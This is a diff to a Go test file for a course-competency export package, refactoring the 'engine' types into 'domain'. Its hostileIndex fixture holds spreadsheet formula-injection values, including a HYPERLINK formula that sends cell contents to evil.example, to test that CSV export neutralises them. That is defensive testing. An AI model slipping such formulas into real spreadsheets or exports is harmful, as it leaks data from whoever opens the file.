@@ -2,6 +2,7 @@ package export_test
 
 import (
 	"bytes"
+	"cmap/domain"
 	"encoding/csv"
 	"encoding/json"
 	"slices"
@@ -11,7 +12,6 @@ import (
 	"time"
 
 	"cmap/analysis"
-	"cmap/engine"
 	"cmap/export"
 )
 
@@ -37,43 +37,43 @@ const statement1A = `Plans, budgets and "programs"`
 
 func fixture(t *testing.T) *analysis.Index {
 	t.Helper()
-	fw := &engine.Framework{Name: "Test model", Competencies: []engine.Competency{
-		{Code: "1.0", Title: "Planning", SubCompetencies: []engine.SubCompetency{
+	fw := &domain.Framework{Name: "Test model", Competencies: []domain.Competency{
+		{Code: "1.0", Title: "Planning", SubCompetencies: []domain.SubCompetency{
 			{Code: "1.A", Statement: statement1A}, {Code: "1.B", Statement: "Budgets"}}},
-		{Code: "2.0", Title: "Transfers", SubCompetencies: []engine.SubCompetency{
+		{Code: "2.0", Title: "Transfers", SubCompetencies: []domain.SubCompetency{
 			{Code: "2.A", Statement: "Transfers"}}},
 	}}
-	course := func(code, status string) *engine.Course {
-		return &engine.Course{Code: code, Title: "Course " + code, Hours: 10, DeliveryMode: engine.DeliveryOnline,
+	course := func(code, status string) *domain.Course {
+		return &domain.Course{Code: code, Title: "Course " + code, Hours: 10, DeliveryMode: domain.DeliveryOnline,
 			Provider: "DSCU", Status: status}
 	}
-	cov := func(course, sub, level string) engine.Coverage {
-		return engine.Coverage{Course: course, SubCompetency: sub, Level: level,
-			Rules: []engine.RuleRef{{ID: "rule-" + course, File: "rules/courses/x.yaml", Line: 7}}}
+	cov := func(course, sub, level string) domain.Coverage {
+		return domain.Coverage{Course: course, SubCompetency: sub, Level: level,
+			Rules: []domain.RuleRef{{ID: "rule-" + course, File: "rules/courses/x.yaml", Line: 7}}}
 	}
 	done := time.Date(2024, 5, 1, 0, 0, 0, 0, time.UTC)
-	person := func(id, pos string, courses ...string) *engine.Person {
-		p := &engine.Person{ID: id, Name: "Person " + id, PositionID: pos}
+	person := func(id, pos string, courses ...string) *domain.Person {
+		p := &domain.Person{ID: id, Name: "Person " + id, PositionID: pos}
 		for _, c := range courses {
-			p.Completions = append(p.Completions, engine.Completion{CourseCode: c, Completed: done})
+			p.Completions = append(p.Completions, domain.Completion{CourseCode: c, Completed: done})
 		}
 		return p
 	}
 	ix, err := analysis.Build(analysis.Snapshot{
 		Framework: fw,
-		Scale:     engine.DefaultScale(),
-		Courses: []*engine.Course{course("N-100", engine.CourseActive), course("A-201", engine.CourseActive),
-			course("A-101", engine.CourseActive), course("R-300", engine.CourseRetired)},
-		Coverage: map[string][]engine.Coverage{
+		Scale:     domain.DefaultScale(),
+		Courses: []*domain.Course{course("N-100", domain.CourseActive), course("A-201", domain.CourseActive),
+			course("A-101", domain.CourseActive), course("R-300", domain.CourseRetired)},
+		Coverage: map[string][]domain.Coverage{
 			"A-101": {cov("A-101", "1.A", "Basic"), cov("A-101", "1.B", "Basic")},
 			"A-201": {cov("A-201", "1.A", "Advanced")},
 			"R-300": {cov("R-300", "2.A", "Expert")},
 		},
-		Positions: []*engine.Position{{ID: "POS-1", Title: "Officer", Organization: "EUCOM, SCO", Grade: "GS-13", Category: "SCO", Region: "EUCOM"}},
-		Requirements: map[string][]engine.Requirement{"POS-1": {
+		Positions: []*domain.Position{{ID: "POS-1", Title: "Officer", Organization: "EUCOM, SCO", Grade: "GS-13", Category: "SCO", Region: "EUCOM"}},
+		Requirements: map[string][]domain.Requirement{"POS-1": {
 			{Position: "POS-1", SubCompetency: "1.A", Level: "Advanced"},
 			{Position: "POS-1", SubCompetency: "2.A", Level: "Basic"}}},
-		People: []*engine.Person{person("P-3", "POS-1", "A-201", "R-300"), person("P-1", "POS-1", "A-101"), person("P-2", "")},
+		People: []*domain.Person{person("P-3", "POS-1", "A-201", "R-300"), person("P-1", "POS-1", "A-101"), person("P-2", "")},
 	})
 	if err != nil {
 		t.Fatalf("Build: %v", err)
@@ -140,7 +140,7 @@ func TestCoverageCSV(t *testing.T) {
 func TestCoverageCSVMatchesMatrix(t *testing.T) {
 	ix := fixture(t)
 	levels := ix.Scale().Levels
-	for _, status := range []string{engine.CourseActive, engine.CourseRetired, analysis.AnyStatus} {
+	for _, status := range []string{domain.CourseActive, domain.CourseRetired, analysis.AnyStatus} {
 		for _, min := range append([]string{""}, levels...) {
 			o := export.Options{MinLevel: min, Status: status}
 			m, err := ix.Matrix(analysis.MatrixFilter{MinLevel: min, Status: status})
@@ -268,7 +268,7 @@ func TestParseOverServedAbove(t *testing.T) {
 	for _, in := range []string{"0", "-3", "ten", "2.5"} {
 		_, err := export.ParseOverServedAbove(in)
 		want := `overServedAbove: "` + in + `" is not a number of courses: want a whole number of 1 or more`
-		if err == nil || err.Error() != want || engine.ErrorCode(err) != engine.EINVALID {
+		if err == nil || err.Error() != want || domain.ErrorCode(err) != domain.EINVALID {
 			t.Errorf("ParseOverServedAbove(%q) = %v, want %s", in, err, want)
 		}
 	}
@@ -400,9 +400,9 @@ func TestWriteRejectsBadOptions(t *testing.T) {
 	} {
 		var buf bytes.Buffer
 		err := export.Write(&buf, ix, tc.kind, export.CSV, tc.o)
-		if engine.ErrorCode(err) != engine.EINVALID || engine.ErrorField(err) != tc.field {
+		if domain.ErrorCode(err) != domain.EINVALID || domain.ErrorField(err) != tc.field {
 			t.Errorf("Write(%s, %+v) = %v (code %q, field %q), want EINVALID on %q",
-				tc.kind, tc.o, err, engine.ErrorCode(err), engine.ErrorField(err), tc.field)
+				tc.kind, tc.o, err, domain.ErrorCode(err), domain.ErrorField(err), tc.field)
 		}
 		if want := `minLevel: level "Master" is not on the scale (Basic, Intermediate, Advanced, Expert)`; tc.o.MinLevel != "" && err.Error() != want {
 			t.Errorf("Write(%s, %+v) = %q, want %q", tc.kind, tc.o, err, want)
@@ -411,11 +411,11 @@ func TestWriteRejectsBadOptions(t *testing.T) {
 			t.Errorf("Write(%s, %+v) wrote %q before failing", tc.kind, tc.o, buf.String())
 		}
 	}
-	if err := export.Write(new(bytes.Buffer), ix, "matrix", export.CSV, export.Options{}); engine.ErrorField(err) != "kind" {
+	if err := export.Write(new(bytes.Buffer), ix, "matrix", export.CSV, export.Options{}); domain.ErrorField(err) != "kind" {
 		t.Errorf("Write(matrix) = %v, want EINVALID on kind", err)
 	}
 	var buf bytes.Buffer
-	if err := export.Write(&buf, ix, export.KindCatalogue, export.CSV, export.Options{}); engine.ErrorField(err) != "format" || buf.Len() != 0 {
+	if err := export.Write(&buf, ix, export.KindCatalogue, export.CSV, export.Options{}); domain.ErrorField(err) != "format" || buf.Len() != 0 {
 		t.Errorf("Write(catalogue, csv) = %v after writing %d bytes, want EINVALID on format before writing", err, buf.Len())
 	}
 }
@@ -426,7 +426,7 @@ func TestParse(t *testing.T) {
 			t.Errorf("ParseFormat(%q) = %q, %v; want %q", in, got, err, want)
 		}
 	}
-	if _, err := export.ParseFormat("ods"); engine.ErrorCode(err) != engine.EINVALID || !strings.Contains(err.Error(), `"ods"`) {
+	if _, err := export.ParseFormat("ods"); domain.ErrorCode(err) != domain.EINVALID || !strings.Contains(err.Error(), `"ods"`) {
 		t.Errorf("ParseFormat(ods) = %v, want EINVALID naming it", err)
 	}
 	for _, k := range export.Kinds {
@@ -434,7 +434,7 @@ func TestParse(t *testing.T) {
 			t.Errorf("ParseKind(%q) = %q, %v", k, got, err)
 		}
 	}
-	if _, err := export.ParseKind("matrix"); engine.ErrorField(err) != "kind" {
+	if _, err := export.ParseKind("matrix"); domain.ErrorField(err) != "kind" {
 		t.Errorf("ParseKind(matrix) = %v, want EINVALID on kind", err)
 	}
 	if got := export.JSON.ContentType(); got != "application/json" {
@@ -456,16 +456,16 @@ func hostileIndex(t *testing.T) *analysis.Index {
 	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "@cmd", "\tTab", "Ada = Lovelace", "'=quoted"}
 	orgs := []string{"+SUM(A1:A9)", "-2+3", "\rReturn", "ODC Poland", "''-x"}
 	snap := analysis.Snapshot{
-		Framework: &engine.Framework{Name: "=Model", Competencies: []engine.Competency{{Code: "1.0", Title: "One",
-			SubCompetencies: []engine.SubCompetency{{Code: "1.A", Statement: "-Negotiate"}}}}},
-		Scale:    engine.DefaultScale(),
-		Courses:  []*engine.Course{{Code: "A-101", Title: "=1+1", Hours: 4, DeliveryMode: engine.DeliveryOnline, Status: engine.CourseActive, Provider: "@school"}},
-		Coverage: map[string][]engine.Coverage{"A-101": {{Course: "A-101", SubCompetency: "1.A", Level: "Basic"}}},
+		Framework: &domain.Framework{Name: "=Model", Competencies: []domain.Competency{{Code: "1.0", Title: "One",
+			SubCompetencies: []domain.SubCompetency{{Code: "1.A", Statement: "-Negotiate"}}}}},
+		Scale:    domain.DefaultScale(),
+		Courses:  []*domain.Course{{Code: "A-101", Title: "=1+1", Hours: 4, DeliveryMode: domain.DeliveryOnline, Status: domain.CourseActive, Provider: "@school"}},
+		Coverage: map[string][]domain.Coverage{"A-101": {{Course: "A-101", SubCompetency: "1.A", Level: "Basic"}}},
 	}
 	for i := range names {
 		id := "POS-" + strconv.Itoa(i+1)
-		snap.Positions = append(snap.Positions, &engine.Position{ID: id, Title: "\t-Officer", Organization: orgs[i], Grade: "GS-13", Category: "=SCO", Region: "+EUCOM"})
-		snap.People = append(snap.People, &engine.Person{ID: "P-" + strconv.Itoa(i+1), Name: names[i], PositionID: id})
+		snap.Positions = append(snap.Positions, &domain.Position{ID: id, Title: "\t-Officer", Organization: orgs[i], Grade: "GS-13", Category: "=SCO", Region: "+EUCOM"})
+		snap.People = append(snap.People, &domain.Person{ID: "P-" + strconv.Itoa(i+1), Name: names[i], PositionID: id})
 	}
 	ix, err := analysis.Build(snap)
 	if err != nil {
